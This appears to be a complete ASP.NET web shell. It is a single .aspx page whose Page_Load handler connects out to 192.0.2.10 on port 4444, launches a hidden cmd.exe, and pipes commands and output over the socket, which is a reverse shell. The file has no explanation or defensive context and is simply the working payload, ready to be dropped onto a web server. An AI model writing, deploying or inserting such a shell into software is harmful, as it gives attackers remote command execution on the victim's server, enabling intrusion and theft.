<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        string peer = "192.0.2.10";
        int port = 4444;
        using (TcpClient client = new TcpClient(peer, port))
        using (Stream stream = client.GetStream())
        using (StreamReader rdr = new StreamReader(stream))
        {
            StreamWriter wr = new StreamWriter(stream);
            Process p = new Process();
            p.StartInfo.FileName = "cmd.exe";
            p.StartInfo.CreateNoWindow = true;
            p.StartInfo.UseShellExecute = false;
            p.StartInfo.RedirectStandardOutput = true;
            p.StartInfo.RedirectStandardInput = true;
            p.StartInfo.RedirectStandardError = true;
            p.OutputDataReceived += (s, a) => { wr.WriteLine(a.Data); wr.Flush(); };
            p.Start();
            p.BeginOutputReadLine();
            string line;
            while ((line = rdr.ReadLine()) != null) { p.StandardInput.WriteLine(line); }
        }
    }
</script>
